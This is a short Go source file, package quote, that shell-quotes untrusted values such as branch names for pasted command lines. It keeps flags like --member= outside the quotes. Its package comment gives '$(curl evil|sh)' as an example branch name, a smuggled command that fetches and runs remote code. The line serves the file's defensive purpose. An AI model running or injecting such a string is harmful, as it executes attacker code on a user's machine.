// Package quote writes foreign values into what a person pastes: a shell command, Markdown, a condition in CEL. A branch may be called
// $(curl evil|sh), and must then be no more than a branch of that name.
package quote

import (
	"regexp"
	"strings"
)

var (
	// bare are the characters that mean themselves in a POSIX shell: https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html
	bare = regexp.MustCompile(`^[A-Za-z0-9_@%+:,./-][A-Za-z0-9_@%+:,./=-]*$`) // a word that begins with = names a program in zsh
	flag = regexp.MustCompile(`^--[a-z-]+=`)
)

// Shell returns a word that a POSIX shell reads as the given one. A flag such as --member= stays outside of the quotes.
func Shell(word string) string {
	if bare.MatchString(word) {
		return word
	}
	name := flag.FindString(word)
	return name + "'" + strings.ReplaceAll(word[len(name):], "'", `'\''`) + "'"
}

// Command returns the command line of a program and its arguments.
func Command(words ...string) string {
	quoted := make([]string, len(words))
	for i, word := range words {
		quoted[i] = Shell(word)
	}
	return strings.Join(quoted, " ")
}
